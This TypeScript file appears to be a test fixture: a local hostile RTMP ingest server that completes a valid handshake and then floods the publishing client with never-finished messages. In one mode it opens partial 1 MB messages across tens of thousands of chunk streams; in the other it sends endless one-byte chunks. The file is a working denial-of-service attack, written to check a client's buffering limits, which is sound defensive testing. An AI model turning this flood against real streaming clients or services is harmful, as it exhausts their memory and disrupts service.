/**
 * An RTMP ingest that attacks its publisher, for the specs: it answers the handshake as a server must,
 * then never answers a command and sends, as fast as the publisher reads, what a hostile ingest can:
 *   - `partial-flood`: a large chunk size, then the first chunk of a 1 MB message (below any sane
 *     per-message limit) on one chunk stream after another (65,597 of them), each left open, then more
 *     of each: a reader without a total cap keeps it all;
 *   - `tiny-chunks`: a chunk size of 1, then one-byte chunks of a message on every chunk stream, round
 *     and round, none ever complete.
 * It counts connections and bytes sent, so a spec can show the attack ran.
 */
import * as net from 'node:net';
import type { AddressInfo } from 'node:net';

export type HostileMode = 'partial-flood' | 'tiny-chunks';

export interface HostileIngest {
  /** rtmp://127.0.0.1:<port>/live/<key> */
  url(key: string): string;
  mode: HostileMode;
  readonly connections: number;
  readonly bytesSent: number;
  close(): Promise<void>;
}

const HANDSHAKE = 1536;

/** A type-0 chunk header on chunk stream `csid` (2 to 65599) for a message of `length` bytes. */
function header0(csid: number, length: number, type: number, streamId = 0): Buffer {
  const basic = csid <= 63 ? Buffer.from([csid]) : csid <= 319 ? Buffer.from([0, csid - 64]) : Buffer.from([1, (csid - 64) & 0xff, (csid - 64) >> 8]);
  const h = Buffer.alloc(11);
  h.writeUIntBE(length, 3, 3);
  h[6] = type;
  h.writeUInt32LE(streamId, 7);
  return Buffer.concat([basic, h]);
}

function setChunkSize(size: number): Buffer {
  const payload = Buffer.alloc(4);
  payload.writeUInt32BE(size);
  return Buffer.concat([header0(2, 4, 1), payload]);
}

/** A type-3 (continuation) basic header on chunk stream `csid`. */
function header3(csid: number): Buffer {
  return csid <= 63 ? Buffer.from([0xc0 | csid]) : csid <= 319 ? Buffer.from([0xc0, csid - 64]) : Buffer.from([0xc1, (csid - 64) & 0xff, (csid - 64) >> 8]);
}

const FIRST_CSID = 3;
const LAST_CSID = 65599;
const MESSAGE = 1024 * 1024 - 1;

/** Endless hostile bytes, one piece at a time: a first chunk on every chunk stream, then continuations round and round. */
function* attack(mode: HostileMode): Generator<Buffer> {
  const chunk = mode === 'tiny-chunks' ? 1 : 64 * 1024;
  yield setChunkSize(chunk);
  const body = Buffer.alloc(chunk, 0x55);
  for (let csid = FIRST_CSID; csid <= LAST_CSID; csid++) yield Buffer.concat([header0(csid, MESSAGE, 9, 1), body]);
  // Never the last chunk of any message: each stays open.
  for (let round = 1; round < Math.floor(MESSAGE / chunk); round++) for (let csid = FIRST_CSID; csid <= LAST_CSID; csid++) yield Buffer.concat([header3(csid), body]);
  for (;;) yield Buffer.alloc(0);
}

export async function startHostileIngest(mode: HostileMode): Promise<HostileIngest> {
  const sockets = new Set<net.Socket>();
  const state = { mode, connections: 0, bytesSent: 0 };
  const server = net.createServer((socket) => {
    sockets.add(socket);
    state.connections++;
    socket.on('close', () => sockets.delete(socket));
    socket.on('error', () => undefined);
    let got = Buffer.alloc(0);
    let attacking = false;
    socket.on('data', (d: Buffer) => {
      if (attacking) return;
      got = Buffer.concat([got, d]);
      if (got.length < 1 + HANDSHAKE) return;
      // S0, S1, S2 (S2 echoes C1): a correct simple handshake.
      socket.write(Buffer.concat([Buffer.from([3]), Buffer.alloc(HANDSHAKE, 1), got.subarray(1, 1 + HANDSHAKE)]));
      attacking = true;
      const pieces = attack(state.mode);
      const pump = (): void => {
        while (!socket.destroyed) {
          const piece = pieces.next().value as Buffer;
          state.bytesSent += piece.length;
          if (!socket.write(piece)) return void socket.once('drain', pump);
        }
      };
      pump();
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const port = (server.address() as AddressInfo).port;
  return {
    url: (key) => `rtmp://127.0.0.1:${port}/live/${key}`,
    get mode() {
      return state.mode;
    },
    set mode(m: HostileMode) {
      state.mode = m;
    },
    get connections() {
      return state.connections;
    },
    get bytesSent() {
      return state.bytesSent;
    },
    close: async () => {
      for (const s of sockets) s.destroy();
      await new Promise<void>((resolve) => server.close(() => resolve()));
    },
  };
}
